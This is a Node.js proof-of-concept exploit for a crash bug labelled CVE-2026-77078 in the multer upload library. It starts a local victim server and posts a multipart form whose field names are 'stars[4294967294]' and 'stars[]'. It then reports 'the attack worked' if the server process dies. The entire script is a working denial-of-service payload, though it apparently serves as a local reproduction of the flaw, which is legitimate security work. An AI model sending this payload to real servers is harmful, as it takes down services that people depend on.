'use strict';

// CVE-2026-77078: one field whose name holds the largest array index there is, and another that adds
// to the same array. multer's helper throws where nobody can catch it, and the server stops.
const { fork } = require('child_process');
const path = require('path');

const server = fork(path.join(__dirname, 'victim.js'), { silent: true });
const stopped = new Promise((resolve) => server.once('exit', (code) => resolve(code !== 0)));

server.once('message', async (port) => {
  const form = new FormData();
  form.append('stars[4294967294]', '5');
  form.append('stars[]', '5');
  // A shop that answers has survived; one that crashes takes a moment to be gone.
  const answered = fetch(`http://127.0.0.1:${port}/reviews/mug`, { method: 'POST', body: form })
    .catch(() => {})
    .then(() => new Promise((resolve) => setTimeout(resolve, 300, false)));
  const crashed = await Promise.race([stopped, answered]);
  server.kill('SIGKILL');
  console.log(crashed ? 'the attack worked' : 'the attack did not work');
  process.exit(crashed ? 0 : 1);
});
